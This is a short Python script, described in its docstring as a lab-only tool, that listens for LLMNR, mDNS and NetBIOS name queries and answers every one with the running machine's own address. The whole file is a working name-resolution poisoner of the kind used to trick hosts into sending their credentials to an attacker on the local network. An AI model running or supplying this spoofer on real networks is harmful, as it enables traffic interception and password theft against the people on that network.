"""Answers for every name by LLMNR, mDNS and NetBIOS, as tools for stealing passwords do. For the lab only."""

from __future__ import annotations

import select
import socket
import struct
import sys
from ipaddress import IPv4Address

_GROUPS = {5355: "224.0.0.252", 5353: "224.0.0.251"}


def main() -> None:
    own = IPv4Address(sys.argv[1])
    sockets = {}
    for port in (5355, 5353, 137):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("", port))
        if port in _GROUPS:
            member = struct.pack("4s4s", IPv4Address(_GROUPS[port]).packed, own.packed)
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
        sockets[sock] = port
    while True:
        for sock in select.select(list(sockets), [], [])[0]:
            data, sender = sock.recvfrom(4096)
            # A question, and not one of its own answers.
            if len(data) < 13 or data[2] & 0x80:
                continue
            end = data.index(0, 12) + 5
            name, kind = data[12 : end - 4], data[end - 4 : end - 2]
            tail = struct.pack("!HIH", 1, 30, 6 if sockets[sock] == 137 else 4)
            rdata = (b"\0\0" if sockets[sock] == 137 else b"") + own.packed
            question = b"" if sockets[sock] == 137 else data[12:end]
            head = data[:2] + b"\x84\0" + struct.pack("!HHHH", bool(question), 1, 0, 0)
            sock.sendto(head + question + name + kind + tail + rdata, sender)


if __name__ == "__main__":
    main()
